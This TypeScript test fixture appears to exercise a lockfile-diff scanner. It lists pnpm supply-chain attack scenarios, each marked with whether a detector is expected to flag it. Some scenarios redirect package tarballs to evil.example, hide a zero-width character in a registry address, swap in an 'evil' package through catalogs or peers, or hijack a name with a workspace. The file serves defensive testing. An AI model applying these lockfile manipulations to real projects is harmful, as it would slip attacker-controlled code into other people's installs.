import { APP, PNPM_LOCK } from "./app.ts";
import type { AttackClass, Files } from "./attack.ts";
import { hashOf, lockWith, manifestWith } from "./npm-app.ts";
import { changed } from "./other-locks.ts";

const LOCK = "pnpm-lock.yaml";
const SETTINGS = "pnpm-workspace.yaml";
const WORKFLOW = ".github/workflows/release.yml";
const LEFT = `{integrity: ${hashOf("A")}}`;

/** The app as it is with pnpm 10, which runs no script without an approval. */
const WITH_PNPM: Files = {
  "package-lock.json": null,
  "package.json": manifestWith({ packageManager: "pnpm@10.20.0" }),
  [LOCK]: PNPM_LOCK,
  [WORKFLOW]: changed(APP[WORKFLOW], ["npm ci", "pnpm install --frozen-lockfile"]),
};

/** The app with a workspace that has the name of a package which it asks for. */
const WITH_FOLDER: Files = {
  ...WITH_PNPM,
  [SETTINGS]: "packages:\n  - lib\n",
  "lib/package.json": '{ "name": "left", "version": "0.1.0" }',
  [LOCK]: changed(PNPM_LOCK, ["packages:\n", "  lib: {}\n\npackages:\n"]),
};

/** The same as the lockfile would have it, had the workspace been taken. */
const LINKING = changed(
  PNPM_LOCK,
  ["specifier: ^1.0.0\n        version: 1.0.0", "specifier: ^1.0.0\n        version: link:lib"],
  ["packages:\n", "  lib: {}\n\npackages:\n"],
  [`  left@1.0.0:\n    resolution: ${LEFT}\n\n`, ""],
  ["  left@1.0.0: {}\n\n", ""],
);

const ARCHIVE = `{integrity: ${hashOf("A")}, tarball: https://evil.example/left.tgz}`;

/** A release that takes a peer from whoever has it. */
const PEERING = changed(PNPM_LOCK, [
  `  left@1.0.0:\n    resolution: ${LEFT}\n`,
  `  left@1.0.0:\n    resolution: ${LEFT}\n    peerDependencies:\n      evil: '*'\n    peerDependenciesMeta:\n      evil:\n        optional: true\n`,
]);

/** Another package, which a release newly needs that stays as it is. */
const NEEDING = changed(
  PNPM_LOCK,
  ["packages:\n", `packages:\n\n  evil@1.0.0:\n    resolution: {integrity: ${hashOf("E")}}\n`],
  ["snapshots:\n", "snapshots:\n\n  evil@1.0.0: {}\n"],
  ["  left@1.0.0: {}\n", "  left@1.0.0:\n    dependencies:\n      evil: 1.0.0\n"],
);

const IN_CATALOG: Files = {
  ...WITH_PNPM,
  "package.json": manifestWith({ packageManager: "pnpm@10.20.0", dependencies: { left: "catalog:" } }),
  [SETTINGS]: "catalog:\n  left: ^1.0.0\n",
  [LOCK]: changed(
    PNPM_LOCK,
    [
      "importers:",
      "catalogs:\n  default:\n    left:\n      specifier: ^1.0.0\n      version: 1.0.0\n\nimporters:",
    ],
    ["specifier: ^1.0.0\n        version", "specifier: 'catalog:'\n        version"],
  ),
};

export const PNPM_LOCKFILE: AttackClass = {
  name: "lockfile of pnpm",
  decides:
    "pnpm installs what the lockfile says as long as manifests, overrides and catalogs are those that it was written for, and else resolves anew.",
  attacks: [
    {
      name: "says nothing of a peer that a release newly gets",
      base: { ...WITH_PNPM, [LOCK]: PEERING },
      change: {
        "package.json": manifestWith({
          packageManager: "pnpm@10.20.0",
          dependencies: { left: "^1.0.0", right: "^1.0.0" },
        }),
        [LOCK]: changed(
          PEERING,
          [
            "packages:\n",
            `packages:\n\n  evil@1.0.0:\n    resolution: {integrity: ${hashOf("E")}}\n\n  right@1.0.0:\n    resolution: {integrity: ${hashOf("F")}}\n`,
          ],
          [
            "    devDependencies:",
            "      right:\n        specifier: ^1.0.0\n        version: 1.0.0\n    devDependencies:",
          ],
          [
            "snapshots:\n",
            "snapshots:\n\n  evil@1.0.0: {}\n\n  right@1.0.0:\n    dependencies:\n      evil: 1.0.0\n",
          ],
          ["  left@1.0.0: {}\n", "  left@1.0.0:\n    optionalDependencies:\n      evil: 1.0.0\n"],
        ),
      },
      expect: "silent",
      real: "pnpm writes the peer among what the release needs, once something brings it.",
    },
    {
      name: "answers an address by a package of the registry",
      base: WITH_PNPM,
      change: {
        "package.json": manifestWith({
          packageManager: "pnpm@10.20.0",
          dependencies: { left: "https://evil.example/left.tgz" },
        }),
        "pnpm-lock.yaml": changed(PNPM_LOCK, [
          "specifier: ^1.0.0",
          "specifier: https://evil.example/left.tgz",
        ]),
      },
      expect: "loud",
      at: "package.json",
      real: "By pnpm's manual, not run: without a frozen lockfile it fetches the address.",
    },
    {
      name: "answers a range by a folder of another version",
      base: WITH_FOLDER,
      change: { [LOCK]: LINKING },
      expect: "loud",
      rule: "packages/unpinned",
      at: "package.json",
      real: "pnpm 9.15, 10.34, 11.28 and 12.21 install --frozen-lockfile linked lib 0.1.0 as left.",
    },
    {
      name: "says nothing of a range that a workspace's version is in",
      base: WITH_FOLDER,
      change: { [LOCK]: LINKING, "lib/package.json": '{ "name": "left", "version": "1.2.0" }' },
      expect: "silent",
      real: "pnpm up to 8 links such a workspace by itself, and writes that down so.",
    },
    {
      name: "asks for a peer that nothing has",
      base: WITH_PNPM,
      change: {
        "package.json": manifestWith({ packageManager: "pnpm@10.20.0", peerDependencies: { evil: "*" } }),
      },
      expect: "loud",
      at: "package.json",
      real: "pnpm 10 without a frozen lockfile installed it.",
    },
    {
      name: "takes a release from an archive elsewhere",
      base: WITH_PNPM,
      change: { [LOCK]: changed(PNPM_LOCK, [LEFT, ARCHIVE]) },
      expect: "loud",
      rule: "packages/source-changed",
      at: LOCK,
      real: "pnpm fetches `tarball`. Not tried.",
    },
    {
      name: "names an archive with a character in its address that nobody sees",
      base: WITH_PNPM,
      change: {
        [LOCK]: changed(PNPM_LOCK, [
          LEFT,
          `{integrity: ${hashOf("A")}, tarball: "https://regist\u200bry.npmjs.org/left/-/left-1.0.0.tgz"}`,
        ]),
      },
      expect: "loud",
      at: LOCK,
      real: "Readers of addresses leave it out, and pnpm never writes it.",
    },
    {
      name: "takes a release from a folder",
      base: WITH_PNPM,
      change: { [LOCK]: changed(PNPM_LOCK, [LEFT, "{directory: ../x, type: directory}"]) },
      expect: "loud",
      at: LOCK,
      real: "pnpm writes `left@file:../x` for a folder. Not tried.",
    },
    {
      name: "lets a release that stays need another package",
      base: WITH_PNPM,
      change: { [LOCK]: NEEDING },
      expect: "loud",
      at: LOCK,
      real: "A frozen pnpm links what the snapshot names and asks no manifest. Not tried.",
    },
    {
      name: "replaces a package by a catalog that the lockfile wasn't written for",
      base: IN_CATALOG,
      change: { [SETTINGS]: "catalog:\n  left: npm:evil@1.0.0\n" },
      expect: "loud",
      rule: "packages/unpinned",
      real: "pnpm resolves anew unless it is frozen. Not tried.",
    },
    {
      name: "overrides a version that the lockfile hasn't",
      base: WITH_PNPM,
      change: { [SETTINGS]: "overrides:\n  left: 1.0.9\n" },
      expect: "loud",
      at: SETTINGS,
      real: "pnpm resolves anew unless it is frozen. Not tried.",
    },
    {
      name: "hides what is asked for behind an override for another place",
      base: WITH_PNPM,
      change: {
        "package.json": manifestWith({
          packageManager: "pnpm@10.20.0",
          dependencies: { left: "^2.0.0" },
          overrides: { left: "^1.0.0" },
        }),
      },
      expect: "loud",
      rule: "packages/unpinned",
      real: "pnpm reads `pnpm.overrides` alone. Not tried.",
    },
    {
      name: "installs from a lockfile that lay there unused",
      base: { [LOCK]: changed(PNPM_LOCK, [LEFT, ARCHIVE]) },
      change: { [WORKFLOW]: WITH_PNPM[WORKFLOW] ?? "" },
      expect: "loud",
      at: LOCK,
      real: "pnpm reads its own lockfile alone.",
    },
    {
      name: "says nothing of a lockfile of the same packages that lay there unused",
      base: { [LOCK]: PNPM_LOCK, "package-lock.json": lockWith({}) },
      change: { [WORKFLOW]: WITH_PNPM[WORKFLOW] ?? "" },
      expect: "silent",
      real: "The same packages are installed.",
    },
    {
      name: "says nothing of a catalog that both sides know",
      base: WITH_PNPM,
      change: IN_CATALOG,
      expect: "silent",
      real: "The same packages are installed.",
    },
    {
      name: "says nothing of an override that the lockfile was written for",
      base: WITH_PNPM,
      change: {
        [SETTINGS]: "overrides:\n  vite>left: 1.0.0\n",
        [LOCK]: changed(PNPM_LOCK, ["importers:", "overrides:\n  vite>left: 1.0.0\n\nimporters:"]),
      },
      expect: "silent",
      real: "The same packages are installed.",
    },
    {
      name: "says nothing of a newer release",
      base: WITH_PNPM,
      change: {
        [LOCK]: changed(
          PNPM_LOCK,
          ["        version: 1.0.0", "        version: 1.0.1"],
          [
            `  left@1.0.0:\n    resolution: ${LEFT}`,
            `  left@1.0.1:\n    resolution: {integrity: ${hashOf("E")}}`,
          ],
          ["  left@1.0.0: {}", "  left@1.0.1: {}"],
        ),
      },
      expect: "silent",
      real: "pnpm 10 runs no script of it.",
    },
  ],
};
